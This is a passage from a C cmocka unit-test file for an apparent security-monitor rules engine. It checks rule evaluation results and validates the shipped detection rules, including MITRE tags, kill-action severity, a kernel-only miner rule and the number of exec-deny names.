	for (i = 0; i < sizeof(dcases) / sizeof(dcases[0]); i++) {
		build_dcase(&t, &dcases[i]);
		memset(&ids, 0, sizeof(ids));
		rules__eval(rs, &t.ev, collect_id, &ids);
		sort_ids(ids.buf);
		snprintf(want, sizeof(want), "%s", dcases[i].want);
		sort_ids(want);
		if (strcmp(ids.buf, want)) {
			print_error("%s:\n  got  [%s]\n  want [%s]\n",
				    dcases[i].what, ids.buf, want);
			bad++;
		}
	}
	rules__free(rs);
	assert_int_equal(bad, 0);
}

static void count_name(const char *name, int rule_idx, void *ctx)
{
	(*(int *)ctx)++;
}

/* The shipped rules: valid, MITRE-tagged, and the kernel gets the miners. */
static void test_rules_dir(void **state)
{
	const char *paths[1] = {rules_dir()};
	struct rules *rs;
	char err[512];
	int i, n, kill_names = 0;

	if (rules__load(paths, 1, &rs, err, sizeof(err)))
		fail_msg("loading %s: %s", paths[0], err);
	assert_true(rules__count(rs) >= 15);
	for (i = 0; i < rules__count(rs); i++) {
		const struct rule *r = rules__get(rs, i);

		assert_non_null(rule__techniques(r, &n));
		assert_true(n > 0);
		assert_true(strlen(rule__description(r)) > 20);
		/* >= 70 only when clearly hostile; kills are. */
		if (rule__action(r) == RULE_ACT_KILL)
			assert_true(rule__severity(r) >= 80);
	}
	i = rules__find(rs, "MW-MINER-001");
	assert_true(i >= 0);
	assert_true(rule__kernel_only(rules__get(rs, i)));
	rules__exec_deny_names(rs, count_name, &kill_names);
	assert_true(kill_names >= 30);
	rules__free(rs);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_ops),
	    cmocka_unit_test(test_file_actions),
	    cmocka_unit_test(test_missing_parent),
	    cmocka_unit_test(test_exceptions),
	    cmocka_unit_test(test_validation),
	    cmocka_unit_test(test_deep_nesting),
	    cmocka_unit_test(test_directory),
	    cmocka_unit_test(test_permissions),
	    cmocka_unit_test(test_kernel_filters),
	    cmocka_unit_test(test_kernel_filters_deny),
	    cmocka_unit_test(test_kernel_stratum_cut),
	    cmocka_unit_test(test_eval_and_accessors),
	    cmocka_unit_test(test_fields_table),
	    cmocka_unit_test(test_default_rules),
	    cmocka_unit_test(test_rules_dir),
	};

	return cmocka_run_group_tests_name("rules", tests, setup_dir,
					   teardown_dir);
}
